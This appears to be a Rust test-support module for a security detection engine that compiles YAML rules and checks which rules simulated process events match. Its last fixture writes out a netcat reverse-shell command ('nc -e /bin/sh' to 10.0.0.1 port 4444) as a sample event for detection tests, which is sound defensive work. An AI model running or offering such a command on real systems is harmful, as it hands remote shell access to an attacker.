//! Rules, from text to match.

mod base;
mod changes;
mod classes;
mod condition_messages;
mod dialect;
mod dispatch;
mod explained;
mod listing;
mod messages;
mod outputs;
mod programs;
mod properties;
mod public;
mod semantics;

use bumpalo::Bump;
use programs::{Event, Program, Programs};

use crate::{Options, RuleFile, Scratch};

type RuleSet = crate::RuleSet<Programs>;

/// Compiles files.
fn compile(files: &[RuleFile], options: &Options) -> crate::Compilation<Programs> {
    crate::compile(files, options)
}

/// Calls a function with an event.
fn with_event<T>(program: &Program, run: impl for<'e> FnOnce(&'e Event<'e>) -> T) -> T {
    let arena = Bump::new();
    run(&Event {
        program,
        arena: &arena,
    })
}

/// Compiles one text; panics with the report if it has an error.
fn rules(text: &str) -> RuleSet {
    rules_with(text, &Options::default())
}

fn rules_with(text: &str, options: &Options) -> RuleSet {
    let compilation = compile(&[RuleFile::new("rules.yaml", text)], options);
    let report = compilation.report;
    compilation
        .set
        .unwrap_or_else(|| panic!("{}", report.text()))
}

/// The whole report about files.
fn complaints(texts: &[&str]) -> String {
    let files: Vec<_> = texts
        .iter()
        .enumerate()
        .map(|(index, text)| RuleFile::new(format!("{index}.yaml"), *text))
        .collect();
    let report = compile(&files, &Options::default()).report;
    let lines: Vec<_> = report
        .problems()
        .map(|problem| format!("{} {problem}", problem.code.as_str()))
        .collect();
    lines.join("\n")
}

/// Names of the rules that an event matches.
fn matches(set: &RuleSet, program: &Program) -> Vec<String> {
    with_event(program, |event| {
        let mut names = Vec::new();
        set.evaluate(&mut Scratch::default(), event, &mut |rule| {
            names.push(rule.name.to_string());
        });
        names
    })
}

/// The text of a rule with that name and condition.
fn rule(name: &str, condition: &str) -> String {
    let condition = condition.replace('\'', "''");
    format!(
        "- rule: {name}\n  desc: d\n  condition: '{condition}'\n  output: o\n  priority: DEBUG\n"
    )
}

/// Whether an event matches a condition.
fn verdict(condition: &str, program: &Program) -> bool {
    !matches(&rules(&rule("r", condition)), program).is_empty()
}

/// The event `/usr/bin/nc -e /bin/sh 10.0.0.1 4444` with a shell as parent.
fn netcat() -> Program {
    Program::exec("/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"])
}
